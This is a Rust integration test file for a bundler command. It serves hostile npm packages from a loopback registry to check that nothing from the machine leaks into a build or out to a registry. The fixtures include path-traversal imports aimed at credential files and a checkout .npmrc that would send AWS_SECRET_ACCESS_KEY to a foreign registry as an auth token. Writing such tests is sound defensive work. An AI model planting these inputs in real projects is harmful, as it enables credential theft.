//! `flowcell bundle` beside hostile packages and checkouts: nothing of this machine goes into a library or to a registry.

use std::{
    fs,
    io::{BufRead, BufReader, Write},
    net::{SocketAddr, TcpListener},
    path::Path,
    sync::{Arc, Mutex},
    thread,
};

use base64::{Engine, prelude::BASE64_STANDARD};
use flate2::{Compression, write::GzEncoder};
use serde_json::{Value, json};
use sha2::{Digest, Sha512};

use crate::{
    libraries,
    support::{Finished, flowcell_command},
};

const CREDENTIALS: &str = "cr3dentials-of-this-machine";

/// An npm registry on loopback that notes the heads of all requests.
struct Registry {
    address: SocketAddr,
    heads: Arc<Mutex<String>>,
}

/// A package: its name, its package.json, its files.
type Package = (&'static str, Value, Vec<(&'static str, String)>);

fn tarball(manifest: &Value, files: &[(&str, String)]) -> Vec<u8> {
    let mut archive = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    let manifest = ("package.json", manifest.to_string());
    for (name, text) in std::iter::once(&manifest).chain(files) {
        let mut header = tar::Header::new_gnu();
        header.set_size(text.len() as u64);
        header.set_mode(0o644);
        archive.append_data(&mut header, format!("package/{name}"), text.as_bytes()).unwrap();
    }
    archive.into_inner().unwrap().finish().unwrap()
}

impl Registry {
    fn start(packages: Vec<Package>) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let heads = Arc::new(Mutex::new(String::new()));
        let packed = packages.into_iter().map(|(name, mut manifest, files)| {
            manifest["name"] = json!(name);
            manifest["version"] = json!("1.0.0");
            (name, tarball(&manifest, &files))
        });
        let packed: Vec<_> = packed.collect();
        let noted = Arc::clone(&heads);
        // It ends with the process of the tests.
        thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                let mut reader = BufReader::new(&stream);
                let mut head = String::new();
                while reader.read_line(&mut head).is_ok_and(|count| count > 2) {}
                noted.lock().unwrap().push_str(&head);
                let target = head.split(' ').nth(1).unwrap_or_default();
                let asked = target.rsplit('/').next().unwrap_or_default();
                let (status, body) =
                    match packed.iter().find(|(name, _)| asked.strip_suffix(".tgz") == Some(*name)) {
                        Some((_, tarball)) => ("200 OK", tarball.clone()),
                        None => match packed.iter().find(|(name, _)| asked.replace("%2f", "/") == *name) {
                            Some((name, tarball)) => ("200 OK", packument(address, name, tarball)),
                            None => ("404 Not Found", Vec::new()),
                        },
                    };
                let head = format!(
                    "HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                    body.len()
                );
                let _ = (&stream).write_all(&[head.as_bytes(), &body].concat());
            }
        });
        Self { address, heads }
    }

    fn url(&self) -> String {
        format!("http://{}/", self.address)
    }

    fn heads(&self) -> String {
        self.heads.lock().unwrap().clone()
    }
}

fn packument(address: SocketAddr, name: &str, tarball: &[u8]) -> Vec<u8> {
    let integrity = format!("sha512-{}", BASE64_STANDARD.encode(Sha512::digest(tarball)));
    let dist = json!({ "tarball": format!("http://{address}/-/{name}.tgz"), "integrity": integrity });
    let version = json!({ "name": name, "version": "1.0.0", "dist": dist });
    json!({ "dist-tags": { "latest": "1.0.0" }, "versions": { "1.0.0": version } }).to_string().into_bytes()
}

/// Bundles below `place`, whose `home` has the user's own `.npmrc`.
fn bundle(place: &Path, name: &str, variables: &[(&str, &str)]) -> Finished {
    let mut command = flowcell_command();
    command.env("XDG_CACHE_HOME", libraries::cache()).env("HOME", place.join("home"));
    for (name, _) in std::env::vars().filter(|(name, _)| name.to_lowercase() == "npm_config_registry") {
        command.env_remove(name);
    }
    command.envs(variables.iter().copied()).current_dir(place.join("checkout"));
    let output = command.args(["bundle", name, "--dir", "out"]).output().unwrap();
    Finished {
        code: output.status.code().unwrap(),
        stdout: String::from_utf8(output.stdout).unwrap(),
        stderr: String::from_utf8(output.stderr).unwrap(),
    }
}

fn place(registry: &Registry) -> tempfile::TempDir {
    let place = tempfile::tempdir().unwrap();
    fs::create_dir(place.path().join("home")).unwrap();
    fs::create_dir(place.path().join("checkout")).unwrap();
    fs::write(place.path().join("home/.npmrc"), format!("registry={}\n", registry.url())).unwrap();
    place
}

#[test]
fn s14_a_package_brings_no_file_of_the_machine_into_a_library() {
    if !libraries::has_tools() {
        eprintln!("esbuild is not to be had here: nothing is tried");
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    let file = |name: &str, text: &str| {
        let path = outside.path().join(name);
        fs::write(&path, text).unwrap();
        path.display().to_string()
    };
    let json = file("creds.json", &json!({ "key": CREDENTIALS }).to_string());
    let script = file("creds.js", &format!("export default '{CREDENTIALS}'"));
    let text = file("creds.txt", CREDENTIALS);
    let up = "../".repeat(12);
    let index = |text: String| vec![("index.js", text)];
    let main = || json!({ "main": "index.js" });
    let import = |path: &str| index(format!("import found from '{path}'; export default found;"));
    let climbs = |path: &str| format!("{up}{}", path.trim_start_matches('/'));
    let packages: Vec<Package> = vec![
        ("good", main(), {
            let mut files = import("./data.json");
            files.push(("data.json", "{\"a\": 1}".to_owned()));
            files
        }),
        ("absolute", main(), import(&json)),
        ("climbs", main(), import(&climbs(&script))),
        ("text", main(), import(&text)),
        ("requires", main(), index(format!("module.exports = require('{json}');"))),
        (
            "browser",
            json!({ "main": "index.js", "browser": { "./x.json": climbs(&json) } }),
            import("./x.json"),
        ),
        ("main", json!({ "main": climbs(&script) }), vec![]),
        (
            "globs",
            main(),
            index(format!(
                "export default (name) => import('{}/' + name + '.json');",
                climbs(outside.path().to_str().unwrap())
            )),
        ),
    ];
    let names: Vec<&str> = packages.iter().map(|package| package.0).collect();
    let registry = Registry::start(packages);
    let place = place(&registry);
    let folder = place.path();
    let done: Vec<_> = thread::scope(|scope| {
        let begun: Vec<_> = names.iter().map(|name| scope.spawn(move || bundle(folder, name, &[]))).collect();
        begun.into_iter().map(|thread| thread.join().unwrap()).collect()
    });
    for (name, finished) in names.iter().zip(done) {
        // A glob finds nothing where nothing is to be seen, which is no error.
        if *name != "globs" {
            let expected = if *name == "good" { 0 } else { 2 };
            assert_eq!(finished.code, expected, "{name}: {finished:?}");
        }
        assert!(
            !finished.stdout.contains(CREDENTIALS) && !finished.stderr.contains(CREDENTIALS),
            "{finished:?}"
        );
    }
    let out = place.path().join("checkout/out");
    assert!(out.join("good.js").is_file());
    for path in fs::read_dir(&out).unwrap().map(|entry| entry.unwrap().path()) {
        assert!(!fs::read_to_string(&path).unwrap().contains(CREDENTIALS), "{}", path.display());
    }
}

#[test]
fn s14_an_npmrc_of_a_checkout_sends_no_variable_away() {
    let (own, foreign) = (Registry::start(vec![]), Registry::start(vec![]));
    let place = place(&own);
    let npmrc = format!(
        "registry={0}${{AWS_SECRET_ACCESS_KEY}}/\n@evil:registry={0}\n//{1}/:_authToken=${{AWS_SECRET_ACCESS_KEY}}\n",
        foreign.url(),
        foreign.address
    );
    fs::write(place.path().join("checkout/.npmrc"), npmrc).unwrap();
    let variables = [("AWS_SECRET_ACCESS_KEY", CREDENTIALS)];
    let finished = bundle(place.path(), "@evil/x", &variables);
    assert_eq!(finished.code, 2, "{finished:?}");
    let sent = own.heads() + &foreign.heads();
    assert!(sent.contains("GET /"), "{finished:?}");
    assert!(!sent.contains(CREDENTIALS), "{sent}");
    assert!(!finished.stderr.contains(CREDENTIALS) && finished.stderr.contains("./.npmrc"), "{finished:?}");

    // A link to a file elsewhere is no configuration of the checkout.
    fs::remove_file(place.path().join("checkout/.npmrc")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", place.path().join("checkout/.npmrc")).unwrap();
    let finished = bundle(place.path(), "x", &variables);
    assert!(finished.code == 2 && finished.stderr.contains(".npmrc leads out of"), "{finished:?}");
}
